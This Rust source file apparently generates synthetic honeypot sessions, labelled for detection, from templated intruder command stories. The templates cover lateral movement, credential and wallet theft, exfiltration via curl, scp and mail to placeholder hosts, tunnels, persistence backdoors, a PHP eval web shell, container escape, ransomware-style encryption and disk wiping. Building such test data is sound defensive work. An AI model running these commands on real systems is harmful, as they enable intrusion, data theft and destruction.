//! One-off intruders: people, and rare tools, that do something which hardly anybody else does. Each follows
//! one story, worded differently every time.

use crate::generate::{kind::Kind, random::Random, session::Step};

use super::{
    campaign::tries,
    credentials::common,
    fill::{fill, name},
    ground::{Ground, Visit, common_client, host, rare_client, someone, unnamed_client},
    truth::Anomaly,
};

/// The subject of a story, and its commands, of which some are left out.
type Story = (&'static str, &'static [&'static str]);

const STORIES: &[Story] = &[
    (
        "lateral movement",
        &[
            "cat /etc/hosts",
            "arp -a",
            "ip neigh show «|| grep REACHABLE»",
            "cat ~/.ssh/known_hosts",
            "for i in $(seq 1 254); do ping -c1 -W1 «lan» | grep from; done",
            "ssh -o StrictHostKeyChecking=no -i /root/.ssh/id_rsa «user»@«lan»",
            "sshpass -p '«name»' ssh «user»@«lan» 'hostname; id'",
            "nc -zv «lan» «22|445|3389|5985»",
            "smbclient -L //«lan» -N",
            "mount -t nfs «lan»:/«export|srv|home» /mnt",
            "showmount -e «lan»",
        ],
    ),
    (
        "data theft",
        &[
            "find / -name '*.«pem|kdbx|ovpn|sql|env»' -type f 2>/dev/null",
            "ls -la /home/*/ /var/www /var/backups",
            "mysqldump -u root -p«name» --all-databases > /tmp/«name».sql",
            "pg_dumpall -U postgres | gzip > /tmp/«name».gz",
            "tar czf /tmp/«name».tgz /var/www/html /etc/«nginx|apache2»",
            "split -b 20m /tmp/«name».tgz /tmp/«name»_",
            "curl -F 'file=@/tmp/«name».tgz' https://«host»/«name»",
            "rclone copy /tmp/«name».tgz remote:«name»",
            "scp /tmp/«name».tgz «user»@«ip»:/«tmp|incoming|home/x»/",
            "openssl enc -aes-256-cbc -salt -in /tmp/«name».tgz -out /tmp/«name».enc -k «name»«n»",
            "shred -u /tmp/«name».tgz",
        ],
    ),
    (
        "tunnel",
        &[
            "which socat ncat chisel frpc",
            "ssh -fNR «port»:localhost:22 «user»@«ip»",
            "ssh -D 0.0.0.0:«port» -N -f «user»@«ip»",
            "wget http://«host»/chisel_1.9.1_linux_amd64.gz -O /tmp/c.gz",
            "./chisel client «ip»:«port» R:«port»:socks",
            "socat TCP-LISTEN:«port»,fork,reuseaddr TCP:«lan»:«port» &",
            "echo 1 > /proc/sys/net/ipv4/ip_forward",
            "iptables -t nat -A PREROUTING -p tcp --dport «port» -j DNAT --to-destination «lan»:«port»",
            "wg genkey | tee /etc/wireguard/«name».key | wg pubkey",
            "autossh -M 0 -o 'ServerAliveInterval 30' -R «port»:127.0.0.1:22 «user»@«host»",
        ],
    ),
    (
        "service for persistence",
        &[
            "cd /etc/systemd/system",
            "cat > /etc/systemd/system/«dbus-org|snapd-env|polkit-agent|«name»».service",
            "echo -e '[Unit]\\nDescription=«Kernel|Network|Update» «helper|sync|cache»\\n[Service]\\nExecStart=/usr/lib/«name»/«name»\\nRestart=always\\n[Install]\\nWantedBy=multi-user.target' > /etc/systemd/system/«name».service",
            "systemctl daemon-reload",
            "systemctl enable --now «name».service",
            "systemctl list-timers",
            "echo '@reboot root /usr/lib/«name»/«name» -q' >> /etc/crontab",
            "touch -r /bin/ls /usr/lib/«name»/«name»",
            "ls -la --time-style=full-iso /usr/lib/«name»",
            "echo 'export LD_PRELOAD=/lib/«name».so' >> /etc/profile",
        ],
    ),
    (
        "account for persistence",
        &[
            "cut -d: -f1,3,7 /etc/passwd | grep -v nologin",
            "useradd -o -u 0 -g 0 -M -d /root -s /bin/bash «name»",
            "echo '«name»:«name»«n»' | chpasswd",
            "usermod -aG sudo,docker «name»",
            "echo '«name» ALL=(ALL) NOPASSWD: ALL' > /etc/sudoers.d/«90-cloud|README2|«name»»",
            "sed -i 's/^PermitRootLogin.*/PermitRootLogin yes/' /etc/ssh/sshd_config",
            "service ssh «restart|reload»",
            "lastlog | head",
            "passwd -«S|l» «user»",
        ],
    ),
    (
        "looking for containers",
        &[
            "cat /proc/1/cgroup",
            "ls -la /.dockerenv /var/run/docker.sock",
            "kubectl get pods -A -o wide",
            "cat /var/run/secrets/kubernetes.io/serviceaccount/token",
            "curl -sk https://«lan»:6443/api/v1/«secrets|namespaces|nodes» -H \"Authorization: Bearer $T\"",
            "docker -H tcp://«lan»:2375 ps -a",
            "capsh --print",
            "nsenter -t 1 -m -u -i -n sh",
            "mount /dev/«sda1|vda1|nvme0n1p1» /mnt/«name»; chroot /mnt/«name»",
            "crictl ps; ctr -n k8s.io c ls",
        ],
    ),
    (
        "cloud credentials",
        &[
            "curl -s http://169.254.169.254/latest/meta-data/iam/security-credentials/",
            "curl -H 'Metadata-Flavor: Google' http://metadata.google.internal/computeMetadata/v1/instance/service-accounts/default/token",
            "cat ~/.aws/credentials ~/.config/gcloud/credentials.db ~/.azure/accessTokens.json",
            "env | egrep -i 'key|secret|token|pass'",
            "grep -rniE '«AKIA|aws_secret|api_key|BEGIN RSA»' /home /opt /srv 2>/dev/null | head -«d»",
            "aws sts get-caller-identity --region «us-east-1|eu-west-1|ap-south-1»",
            "terraform state pull",
            "cat /home/*/.bash_history | grep -E 'ssh|mysql|psql' | tail -«d»",
        ],
    ),
    (
        "wallets",
        &[
            "find / -iname '*«wallet|keystore|solana|metamask»*' -not -path '/proc/*' 2>/dev/null",
            "ls -la ~/.ethereum/keystore ~/.bitcoin ~/.config/solana",
            "cat ~/.config/solana/id.json",
            "solana balance -u «mainnet-beta|m»",
            "geth attach --exec eth.accounts http://127.0.0.1:8545",
            "grep -rE '([a-z]{3,8} ){11}[a-z]{3,8}' /home --include=*.txt",
            "tail -n 50 ~/validator/«name».log",
            "bitcoin-cli getwalletinfo",
        ],
    ),
    (
        "building a tool",
        &[
            "gcc --version; make --version",
            "apt-get install -y build-essential «libssl-dev|libpcap-dev|linux-headers-generic»",
            "wget http://«host»/«name»-«1.2|2.0.4|0.9».tar.gz",
            "tar xf «name».tar.gz && cd «name»",
            "./configure --prefix=/opt/«name» && make -j«2|4|8»",
            "gcc -O2 -pthread -o «name» «name».c -l«crypto|pcap|m»",
            "vi «name».c",
            "strip --strip-all «name»",
            "insmod ./«name».ko",
            "dmesg | tail",
            "gdb -p 1 -batch -ex bt",
        ],
    ),
    (
        "scanning from here",
        &[
            "masscan «ip»/16 -p«22,2222|23|3389|6379» --rate «5000|20000» -oL /tmp/«name»",
            "nmap -sS -Pn -n -p- --min-rate «n» «ip»",
            "zmap -p «port» -o «name».csv -B «50M|1G»",
            "hydra -L users.txt -P «name».txt -t 16 ssh://«ip»",
            "python3 brute.py -i ips.txt -u «user» -T «n»",
            "wc -l ips.txt pass.txt",
            "screen -dmS «name» ./scan «d» «port»",
            "tail -f vuln.txt",
            "awk '{print $4\":\"$3}' /tmp/«name» | sort -u > ips.txt",
        ],
    ),
    (
        "mail",
        &[
            "postconf -n | head -«d»",
            "cat /etc/postfix/main.cf | grep relay",
            "sendmail -v «name»@example.com < /tmp/«name»",
            "swaks --to «name»@example.net --server «lan» --attach «name».pdf",
            "telnet «mx1.example.com|mx.example.org» 25",
            "php -r \"mail('«name»@example.org','«invoice|payment|order» «n»','«name»');\"",
            "doveadm mailbox list -u «user»",
            "grep -c 'status=sent' /var/log/mail.log",
        ],
    ),
    (
        "web shell",
        &[
            "ls /var/www/html /usr/share/nginx/html",
            "grep -rn DB_PASSWORD /var/www --include=*.php --include=.env",
            "echo '<?php @eval($_«POST|REQUEST»[\"«name»\"]);?>' > /var/www/html/«wp-cron2|«name»|info».php",
            "chown www-data:www-data /var/www/html/«name».php",
            "curl -s localhost/«name».php -d '«name»=phpinfo();' | head",
            "sed -i 's#</head>#<script src=https://«host»/«name».js></script></head>#' /var/www/html/index.html",
            "find /var/www -name '*.php' -newer /etc/passwd",
            "wp user create «name» «name»@example.com --role=administrator --allow-root",
        ],
    ),
    (
        "is it a honeypot",
        &[
            "cat /proc/version; cat /proc/uptime",
            "ls -la /home/richard /opt/cowrie",
            "ps -ef | wc -l; ps -ef | grep -i cowrie",
            "dmidecode -s system-product-name",
            "mount | grep -v tmpfs; lsblk",
            "ping -c 1 «ip»; time sleep «2|3|5»",
            "echo $((«n»*«n»)); printf '%s\\n' «hex» | md5sum",
            "cat /sys/class/dmi/id/«product_name|sys_vendor|bios_version»",
            "ifconfig eth0 | grep HWaddr",
            "ls --version | head -1; bash --version | head -1",
            "strace -c ls",
        ],
    ),
    (
        "destruction",
        &[
            "df -h; lsblk -f",
            "find / -name '*.«vmdk|bak|qcow2|mdf»' 2>/dev/null | head",
            "esxcli vm process list",
            "for f in $(find /srv -type f); do openssl enc -aes256 -in $f -out $f.«name» -k «key»; done",
            "echo 'YOUR FILES ARE ENCRYPTED. Write to «name»@example.com, id «hex»' > /root/README_«name».txt",
            "dd if=/dev/urandom of=/dev/«sda|vda» bs=1M count=«d»",
            "zfs destroy -r «tank|pool»/«name»",
            "vgremove -f «name»; wipefs -a /dev/«sdb|vdb»",
            "rm -rf /var/log/* /var/backups/*",
        ],
    ),
    (
        "industrial",
        &[
            "find / -iname '*«modbus|scada|s7|plc»*' 2>/dev/null",
            "mbpoll -m tcp -a «d» -r «n» -c 10 «lan»",
            "python3 -c \"import snap7;c=snap7.client.Client();c.connect('«lan»',0,1);print(c.get_cpu_state())\"",
            "nmap --script «modbus-discover|s7-info|bacnet-info» -p 502,102,47808 «lan»",
            "cat /dev/ttyUSB«d»",
            "stty -F /dev/ttyS0 «9600|19200» cs8 -parenb",
            "snmpwalk -v2c -c «public|private» «lan» 1.3.6.1.2.1.1",
        ],
    ),
    (
        "odd jobs",
        &[
            "curl wttr.in/«Berlin|Lagos|Lima|Hanoi»",
            "python3 -m http.server «port»",
            "youtube-dl -f best https://«host»/watch?v=«hex»",
            "ffmpeg -i rtsp://«lan»:554/stream«d» -vframes 1 «name».jpg",
            "git config --global user.email «name»@example.com",
            "npm i -g «name»; node -e \"require('«name»').start(«port»)\"",
            "crontab -e",
            "tcpdump -i any -w «name».pcap port «port» -c «n»",
            "journalctl -u ssh --since '«2 hours ago|yesterday»' --no-pager | tail",
            "mail -s «name» «name»@example.net < /etc/passwd",
            "xxd -l «n» /dev/mem | head",
            "tmux new -s «name»",
            "perl -MIO::Socket -e '$s=IO::Socket::INET->new(\"«ip»:«port»\");print $s \"«hex»\"'",
        ],
    ),
];

/// Commands that people type in between.
const BETWEEN: &[&str] = &[
    "ls", "ls -la", "pwd", "id", "w", "cd /tmp", "uname -a", "clear", "history", "exit", "whoami", "ps aux",
];

pub fn plant(ground: &mut Ground<'_>) {
    let mut random = ground.stream();
    let (what, lines) = *random.pick(STORIES);
    let client = match random.below(5) {
        0..3 => common_client(&mut random),
        3 => rare_client(&mut random),
        _ => unnamed_client(&mut random),
    };
    let at = ground.moment(&mut random);
    let sensor = random.below(ground.sensors.len());
    let mut who = someone(ground.stream(), ground.address(), client, host(&mut random));
    let typed = random.chance(0.65);
    let commands = commands(&mut random, lines, typed, &who.host);
    let visit = Visit {
        at,
        sensor,
        kind: if typed { Kind::Human } else { Kind::Shell },
        seconds: typed.then(|| random.lognormal(90.0, 0.9)),
    };
    let session = ground.visit(&mut who, &visit, |script| {
        let before = (0..script.attacker.random.below(3))
            .map(|_| common(&mut script.attacker.random))
            .chain([common(&mut random)])
            .collect();
        tries(script, before, true);
        if typed {
            type_all(script, commands)
        } else {
            commands.into_iter().for_each(|command| script.execute(command.into(), None))
        }
    });
    ground.truth.anomalies.extend(session.map(|(sensor, session)| Anomaly {
        sensor,
        session,
        class: "intruder".into(),
        what: what.into(),
    }));
}

/// Returns some commands of the story in order, with common commands in between.
fn commands(random: &mut Random, lines: &[&str], typed: bool, host: &str) -> Vec<String> {
    let kept = random.between(0.25, 0.9);
    let mut commands = Vec::new();
    // Commands about the same file use the same name.
    let own = name(random);
    for line in lines {
        if !random.chance(kept) {
            continue;
        }
        if typed && random.chance(0.4) {
            commands.push((*random.pick(BETWEEN)).to_owned());
        }
        let line = if random.chance(0.7) { line.replace("«name»", &own) } else { (*line).to_owned() };
        commands.push(fill(&line, random, host));
    }
    if commands.is_empty() {
        commands.push(fill(lines[random.below(lines.len())], random, host));
    }
    commands
}

/// Types all commands into one terminal.
pub fn type_all(script: &mut crate::generate::script::Script<'_>, commands: Vec<String>) {
    script.steps.push(Step::Size {
        width: 80 + script.attacker.random.below(120) as u16,
        height: 24 + script.attacker.random.below(40) as u16,
    });
    let index = script.open();
    for command in commands {
        let unknown = script.attacker.random.chance(0.3);
        script.command(command.clone().into());
        if unknown {
            script.steps.push(Step::NotFound { input: command.into() });
        }
    }
    if script.attacker.random.chance(0.85) {
        script.close(index);
    }
}
